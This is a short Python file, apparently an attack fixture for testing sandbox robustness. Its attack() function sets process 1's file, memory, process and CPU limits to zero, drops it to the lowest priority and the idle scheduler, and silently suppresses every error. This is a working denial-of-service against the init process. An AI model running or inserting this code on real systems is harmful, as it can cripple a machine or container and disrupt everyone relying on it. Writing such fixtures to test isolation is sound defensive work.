"""Takes limits and processor from process 1, which has the same user: it can open, map and fork no more."""

import os
import resource
from contextlib import suppress


def attack():
    for limit in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_CPU):
        with suppress(OSError):
            resource.prlimit(1, limit, (0, 0))
    with suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 1, 19)
    with suppress(OSError):
        os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))
    return []
